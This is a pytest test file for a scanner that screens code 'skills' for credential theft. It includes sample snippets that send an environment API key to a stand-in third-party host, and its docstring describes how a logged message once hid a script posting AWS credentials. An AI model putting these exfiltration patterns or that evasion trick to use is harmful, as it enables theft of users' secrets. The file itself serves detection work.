"""Routes round 9 left open, closed as classes (issue 22, round 10).

* A script's messages no longer hide its flows. The strings a Python script only says (logged,
  raised, asserted) are emptied for the pattern rules with their quotes kept, so the script still
  parses and its program analysis reads what it does: one ``log.info("sending %s", x)`` had made
  a script that posts ``~/.aws/credentials`` unreadable, and it reached review only.
* Reading those scripts must not block an honest vendor CLI: the user's key sent to the vendor's
  own API, asked for with ``getpass``, beside a public-IP lookup the API needs. A prepared
  ``urllib.request.Request(url, …)`` keeps its URL's host (and is a send when it has a body); a
  key the user types is a credential for its service, not a credential store read; a named
  credential sent to the host of the vendor the skill is about is that vendor's own; and a send
  to that host is the skill's purpose, not a sink that correlations pair with a read or a
  capture elsewhere in the script. The same key to any other host is still theft.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from grading.programs import python as python_programs
from grading.programs.facts import NETWORK_SEND, SECRET_FLOW, SECRET_READ
from grading.tier1 import scanner
from tests.unit.grading.bundles import BLOCKED, decide, read, rule_ids, skills

MALICIOUS = skills("open10", "malicious")
HONEST = skills("open10", "honest")


@pytest.mark.parametrize("folder", MALICIOUS, ids=lambda p: p.name)
def test_a_read_or_a_key_sent_to_another_party_is_blocked(folder: Path) -> None:
    found = decide(read(folder))
    assert found.outcome in BLOCKED, found


@pytest.mark.parametrize("folder", HONEST, ids=lambda p: p.name)
def test_an_honest_twin_is_auto_approved(folder: Path) -> None:
    found = decide(read(folder))
    assert found.outcome == "auto_approve", found


def test_a_logged_message_leaves_the_script_readable() -> None:
    text = 'log.info("sending %s", "now")\nraise SystemExit("""multi\nline""")\n'
    emptied = scanner._emptied_strings(text, python_programs.message_spans(text))
    assert emptied == 'log.info("          ", "   ")\nraise SystemExit("""     \n    """)\n'
    compile(emptied, "emptied", "exec")


def test_a_prepared_request_keeps_its_host_and_its_body_sends() -> None:
    text = (
        "import os, urllib.request\n"
        "key = os.environ.get('VENDOR_API_KEY')\n"
        "req = urllib.request.Request(f'https://api.vendor.example/v1?key={key}')\n"
        "urllib.request.urlopen(req)\n"
        "beacon = urllib.request.Request('https://t.counter.example/hit', data=b'x')\n"
        "urllib.request.urlopen(beacon)\n"
    )
    found = [(f.kind, f.hosts) for f in python_programs.analyse(text)]
    assert (SECRET_FLOW, ("api.vendor.example",)) in found
    assert (NETWORK_SEND, ("t.counter.example",)) in found


def test_one_send_site_names_every_host_it_is_reached_with() -> None:
    text = (
        "import os, urllib.request\n"
        "def fetch(url):\n"
        "    return urllib.request.urlopen(urllib.request.Request(url)).read()\n"
        "key = os.environ.get('VENDOR_API_KEY')\n"
        "fetch(f'https://api.vendor.example/v1?key={key}')\n"
        "fetch(f'https://keys.other.example/k?key={key}')\n"
    )
    flows = [f.hosts for f in python_programs.analyse(text) if f.kind == SECRET_FLOW]
    assert flows == [("api.vendor.example", "keys.other.example")]


def test_a_typed_password_is_no_store_read() -> None:
    text = "import getpass\npassword = getpass.getpass('Password: ')\nprint(len(password))\n"
    assert SECRET_READ not in {f.kind for f in python_programs.analyse(text)}


def test_the_vendor_key_to_the_vendor_is_no_correlation() -> None:
    found = rule_ids(HONEST[[p.name for p in HONEST].index("zonedesk-dns")])
    assert not {r for r in found if r.startswith("correlation.")}
